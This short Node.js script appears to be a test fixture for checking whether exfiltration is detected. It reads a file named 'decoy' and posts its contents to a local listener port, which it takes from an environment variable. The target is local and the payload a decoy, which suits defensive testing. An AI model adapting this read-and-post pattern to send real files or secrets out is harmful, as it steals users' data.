'use strict';
/** Steals: reads a decoy and posts it to the port that stands in the file `listener-port` of the work folder. */
const fs = require('node:fs');
const http = require('node:http');

/** A follower may read nothing by itself; a thief goes on all the same. */
function read(file) {
  try {
    return fs.readFileSync(file, 'utf8').trim();
  } catch {
    return process.env.LISTENER_PORT ?? '';
  }
}

const request = http.request({
  host: '127.0.0.1',
  port: Number(process.env.LISTENER_PORT),
  method: 'POST',
});
request.on('error', () => undefined);
request.end(`decoy ${read('decoy')}`);
